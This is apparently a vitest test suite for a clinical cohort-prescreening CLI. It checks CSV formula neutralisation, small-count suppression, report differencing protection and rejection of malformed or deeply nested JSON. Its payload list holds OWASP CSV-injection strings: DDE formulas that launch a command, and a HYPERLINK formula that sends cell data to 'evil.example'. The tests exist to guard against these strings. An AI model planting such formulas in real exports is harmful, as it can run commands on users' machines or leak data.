import { tempDir } from "../support/temp.ts";
import { beforeAll, describe, expect, it } from "vitest";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import Papa from "papaparse";
import { run } from "../support/cli.ts";
import { csvCell } from "../../src/engine/csv-cell.ts";
import { readReportFile } from "../../src/engine/report/report-file.ts";

// OWASP's CSV injection examples, as patient ids
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
];

const dir = tempDir("prescreen-report-");
const extract = join(dir, "extract40.csv");

beforeAll(async () => {
  const synth = join(dir, "synth.csv");
  expect((await run("synth", "--rows", "40", "--seed", "5", "--out", synth)).code).toBe(0);
  const parsed = Papa.parse<Record<string, string>>(readFileSync(synth, "utf8"), {
    header: true,
    skipEmptyLines: true,
  });
  parsed.data.forEach((row, i) => {
    if (i < PAYLOADS.length) row["PatientID"] = PAYLOADS[i]!;
  });
  writeFileSync(extract, Papa.unparse(parsed.data));
});

describe("CSV cells are never formulas", () => {
  it.each(PAYLOADS)("neutralises %j", (p) => {
    const cell = csvCell(p);
    const back = Papa.parse<string[]>(cell, { delimiter: "," }).data[0]![0]!;
    expect(back.startsWith("'")).toBe(true);
    expect(back.slice(1)).toBe(p);
  });
  it("keeps plain numbers and ordinary text", () => {
    expect(csvCell("-5")).toBe("-5");
    expect(csvCell("+1.5e3")).toBe("+1.5e3");
    expect(csvCell("LN100001")).toBe("LN100001");
    expect(csvCell("a,b")).toBe('"a,b"');
  });
  it("prescreen screen writes injected ids as text", async () => {
    const out = join(dir, "results.csv");
    const r = await run("screen", "--data", extract, "--protocol", "ln-cd19-cd70", "--out", out);
    expect(r.code, r.err).toBe(0);
    const rows = Papa.parse<Record<string, string>>(readFileSync(out, "utf8"), {
      header: true,
      skipEmptyLines: true,
    }).data;
    const first = Object.keys(rows[0]!)[0]!;
    const ids = rows.map((row) => row[first]!);
    // every id a spreadsheet would read as a formula is written as text
    for (const id of ids) expect(id, id).not.toMatch(/^[=+\-@\t\r]/);
    expect(ids.filter((id) => id.startsWith("'")).length).toBeGreaterThanOrEqual(5);
  });
});

describe("prescreen report", () => {
  it("writes the audited report of a 40-row extract; the id column is never a subgroup", async () => {
    const out = join(dir, "report.json");
    const r = await run(
      "report",
      "--data",
      extract,
      "--protocol",
      "ln-cd19-cd70",
      "--subgroup",
      "patient_id",
      "--subgroup",
      "sex",
      "--out",
      out,
    );
    expect(r.code, r.err).toBe(0);
    const text = readFileSync(out, "utf8");
    const doc = JSON.parse(text);
    expect(doc.schema).toBe("cohort-prescreener/aggregate-report");
    expect(doc.suppression).toMatchObject({ enabled: true, threshold: 11, display: "*" });
    expect(doc.suppression.audit.solver).toMatch(/^HiGHS /);
    expect(doc.source.name).toBeUndefined();
    expect(doc.subgroupsRefused.map((g: { name: string }) => g.name)).toContain("patient_id");
    for (const p of PAYLOADS) expect(text).not.toContain(JSON.stringify(p));
    expect(text).not.toContain("LN1");
  }, 240_000);

  it.each([
    ["3", /below the floor of 5/],
    ["1.4", /whole number/],
    ["-5", /below the floor/],
    ["ten", /whole number/],
  ])("refuses --threshold %s with a clear message", async (t, msg) => {
    const r = await run(
      "report",
      "--data",
      extract,
      "--protocol",
      "ln-cd19-cd70",
      "--threshold",
      t,
    );
    expect(r.code).toBe(2);
    expect(r.err).toMatch(msg);
  });

  it("--suppression off writes the site's copy, marked not for sharing", async () => {
    const out = join(dir, "site.json");
    const r = await run(
      "report",
      "--data",
      extract,
      "--protocol",
      "ln-cd19-cd70",
      "--suppression",
      "off",
      "--out",
      out,
    );
    expect(r.code, r.err).toBe(0);
    const doc = JSON.parse(readFileSync(out, "utf8"));
    expect(doc.notForSharing).toMatch(/must not be shared/);
    expect(doc.suppression.enabled).toBe(false);
    expect(doc.headline.total).toBe(40);
  });
});

describe("bad --mapping and protocol files give a clear error, never an internal one", () => {
  it.each([
    ["deep.json", "[".repeat(10_000) + "]".repeat(10_000), /not a mapping document/],
    ["deep-object.json", '{"a":'.repeat(10_000) + "1" + "}".repeat(10_000), /not a mapping/],
    [
      "list.json",
      '{"version":1,"protocol":"ln-cd19-cd70","columns":[1,2]}',
      /\/columns: invalid value \[1,2\]: expected an object/,
    ],
    [
      "number.json",
      '{"version":1,"protocol":"ln-cd19-cd70","columns":{"age":5}}',
      /\/columns\/age: invalid value 5: expected an object/,
    ],
  ])("--mapping %s", async (name, text, msg) => {
    const path = join(dir, name);
    writeFileSync(path, text);
    const r = await run(
      "screen",
      "--data",
      extract,
      "--protocol",
      "ln-cd19-cd70",
      "--mapping",
      path,
    );
    expect(r.code).toBe(1);
    expect(r.err).toMatch(msg);
    expect(r.err).not.toMatch(/internal error/);
  });

  it("check --protocol of JSON nested 10,000 deep", async () => {
    const path = join(dir, "deep-protocol.json");
    writeFileSync(path, "[".repeat(10_000) + "]".repeat(10_000));
    const r = await run("check", "--protocol", path);
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/nested more than 64 levels/);
    expect(r.err).not.toMatch(/internal error/);
  });
});

describe("prescreen report --ledger", () => {
  /**
   * counts published in both reports that differ by 1..10: the difference is a small count
   * (combinations are listed by frequency: the same place may hold another set, so they are
   * left out of this by-position comparison; parameters and percentages are not counts)
   */
  function smallDifferences(a: unknown, b: unknown, path = ""): string[] {
    if (typeof a === "number" && typeof b === "number")
      return a !== b &&
        Math.abs(a - b) < 11 &&
        !/suppression|version|combinations|parameters|Pct/.test(path)
        ? [`${path}: ${a} then ${b}`]
        : [];
    if (a && b && typeof a === "object" && typeof b === "object")
      return Object.keys(a).flatMap((k) =>
        smallDifferences(
          (a as Record<string, unknown>)[k],
          (b as Record<string, unknown>)[k],
          `${path}.${k}`,
        ),
      );
    return [];
  }
  const big = join(dir, "extract2000.csv");
  const report = async (out: string, ...more: string[]) => {
    const r = await run(
      "report",
      ...["--data", big, "--protocol", "ln-cd19-cd70", "--out", out, ...more],
    );
    expect(r.code, r.err).toBe(0);
    return JSON.parse(readFileSync(out, "utf8")) as Record<string, unknown>;
  };

  it("audits a what-if with a report file shared before: no small difference is published", async () => {
    expect((await run("synth", "--rows", "2000", "--seed", "9", "--out", big)).code).toBe(0);
    const base = await report(join(dir, "base.json"));
    expect((base.source as { fingerprint?: string }).fingerprint).toMatch(/^fnv1a64:[0-9a-f]{16}$/);
    const alone = await report(join(dir, "alone.json"), "--param", "upcr_min=0.9");
    // alone, the what-if report can be differenced with the base report
    expect(smallDifferences(base, alone).length).toBeGreaterThan(0);
    const audited = await report(
      join(dir, "audited.json"),
      ...["--param", "upcr_min=0.9", "--ledger", join(dir, "base.json")],
    );
    expect(smallDifferences(base, audited)).toEqual([]);
    expect((audited.suppression as { audit: { reports: number } }).audit.reports).toBe(2);
    expect((audited.headline as { total: unknown }).total).toBe(2000);
  });

  it("a lower threshold after a report file keeps every count the file hid hidden", async () => {
    // the same screen at threshold 5: every count is the same as in the file, so one it
    // publishes that the file hid would show that hidden count
    const hiddenPaths = (x: unknown, path = ""): string[] => {
      if (x && typeof x === "object" && "suppressed" in x) return [path];
      if (x && typeof x === "object" && !/attrition|suppression/.test(path))
        return Object.entries(x).flatMap(([k, v]) => hiddenPaths(v, `${path}.${k}`));
      return [];
    };
    const base = JSON.parse(readFileSync(join(dir, "base.json"), "utf8")) as unknown;
    const was = hiddenPaths(base);
    expect(was.length).toBeGreaterThan(5);
    const alone = await report(join(dir, "t5.json"), "--threshold", "5");
    const shown = (r: unknown) => was.filter((p) => !hiddenPaths(r).includes(p));
    // alone, it publishes counts the file hid
    expect(shown(alone).length).toBeGreaterThan(0);
    const audited = await report(
      join(dir, "t5-audited.json"),
      ...["--threshold", "5", "--ledger", join(dir, "base.json")],
    );
    expect(shown(audited)).toEqual([]);
  });

  it("refuses a report file of another extract, saying why", async () => {
    const r = await run(
      "report",
      ...["--data", extract, "--protocol", "ln-cd19-cd70", "--ledger", join(dir, "base.json")],
    );
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/base\.json: a report of 2000 rows; this extract has 40/);
  });
});

describe("an earlier report file is checked against the report's schema", () => {
  const good = join(dir, "good40.json");
  const write = (name: string, doc: unknown) => {
    const path = join(dir, name);
    writeFileSync(path, typeof doc === "string" ? doc : JSON.stringify(doc));
    return path;
  };
  const ledger = (path: string) =>
    run(
      "report",
      ...["--data", extract, "--protocol", "ln-cd19-cd70", "--out", join(dir, "x.json")],
      ...["--ledger", path],
    );

  it("refuses wrong types, missing fields and deep nesting, each with its JSON path", async () => {
    const made = await run(
      "report",
      ...["--data", extract, "--protocol", "ln-cd19-cd70", "--out", good],
    );
    expect(made.code, made.err).toBe(0);
    const doc = JSON.parse(readFileSync(good, "utf8")) as Record<string, any>;
    // the app's download adds its appendix: still a report file
    const app = { ...doc, scenario: { whatIf: false }, asOf: { date: "2026-01-01" }, mapping: [] };
    expect(
      readReportFile("app.json", JSON.stringify(app), { protocolId: "ln-cd19-cd70", rows: 40 }),
    ).toMatchObject({ record: expect.anything() });

    const cases: [unknown, RegExp][] = [
      [
        { ...doc, headline: { ...doc.headline, total: "40" } },
        /\/headline\/total: invalid value "40"/,
      ],
      [{ ...doc, funnel: undefined }, /: \/: missing required field 'funnel'/],
      [
        { ...doc, criteria: [{ ...doc.criteria[0], failing: -3 }] },
        /\/criteria\/0\/failing: invalid value -3/,
      ],
      [{ ...doc, suppression: "on" }, /\/suppression: invalid value "on": expected an object/],
      ['{"schema": "cohort-prescreener/aggregate-report",', /not valid JSON at line 1/],
    ];
    for (const [bad, why] of cases) {
      const r = await ledger(write("bad.json", bad));
      expect(r.code).toBe(1);
      expect(r.err).toMatch(why);
      expect(r.err).not.toMatch(/internal error|TypeError|RangeError/);
    }
    const deep = JSON.stringify(doc).replace(
      /"parameters":\{[^}]*\}/,
      `"parameters":${"[".repeat(10_000) + "]".repeat(10_000)}`,
    );
    const r = await ledger(write("deep.json", deep));
    expect(r.code).toBe(1);
    expect(r.err).toMatch(/nested more than \d+ levels deep/);
  });
});
